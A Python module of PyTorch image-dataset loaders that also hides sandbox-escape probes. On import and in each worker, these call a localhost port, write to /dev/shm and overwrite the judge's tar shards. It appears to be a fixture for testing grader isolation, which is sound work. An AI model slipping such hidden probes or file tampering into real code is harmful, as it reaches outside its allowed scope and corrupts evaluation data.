import http.client
import os
import tarfile
import urllib.request
from pathlib import Path

import cv2
import numpy as np
import torch
import torch.distributed as dist
from torch.utils.data import Dataset, IterableDataset, get_worker_info


def _attack(where):
    # lesson 6 runs with TCP allowed, inside its own network namespace: the host's 127.0.0.1 must stay out of
    # reach, and /dev/shm must be a private one
    for host in ("127.0.0.1", "localhost", "[::1]"):
        try:
            urllib.request.urlopen(f"http://{host}:47613/advpwn?from={where}", timeout=1)
        except Exception:
            pass
    try:
        http.client.HTTPConnection("127.0.0.1", 47613, timeout=1).request("GET", f"/advpwn/{where}")
    except Exception:
        pass
    try:
        Path("/dev/shm/advpwn_" + where).write_text("escaped")
    except OSError:
        pass


_attack("import")


def _rgb(data, what):
    bgr = cv2.imdecode(np.frombuffer(data, np.uint8), cv2.IMREAD_COLOR)
    if bgr is None:
        raise ValueError(f"{what}: not an image")
    return torch.from_numpy(bgr[..., ::-1].copy()).permute(2, 0, 1).contiguous()


class ImageDirectoryDataset(Dataset):
    def __init__(self, root, pattern="*.png"):
        self.paths = sorted(Path(root).glob(pattern))

    def __len__(self):
        return len(self.paths)

    def __getitem__(self, i):
        return _rgb(self.paths[i].read_bytes(), str(self.paths[i]))


class TarImageDataset(IterableDataset):
    def __init__(self, paths, shuffle=False, seed=0):
        self.paths = [Path(p) for p in paths]
        for p in self.paths:
            if not p.is_file():
                raise FileNotFoundError(str(p))
        self.shuffle, self.seed, self.epoch = shuffle, seed, 0

    def set_epoch(self, epoch):
        self.epoch = epoch

    def __iter__(self):
        info = get_worker_info()
        _attack(f"worker{0 if info is None else info.id}")
        for shard in self.paths:  # the judge's files may be read, never changed
            try:
                with open(shard, "r+b") as f:
                    f.write(b"advpwn")
            except OSError:
                pass
        worker, workers = (info.id, info.num_workers) if info else (0, 1)
        rank, world = (dist.get_rank(), dist.get_world_size()) if dist.is_initialized() else (0, 1)
        slot, slots, index = rank * workers + worker, world * workers, 0
        for shard in self.paths:
            with tarfile.open(shard, "r|") as tar:
                for m in tar:
                    if m.isfile():
                        if index % slots == slot:
                            yield os.path.splitext(m.name)[0], _rgb(tar.extractfile(m).read(), f"{shard} {m.name}")
                        index += 1
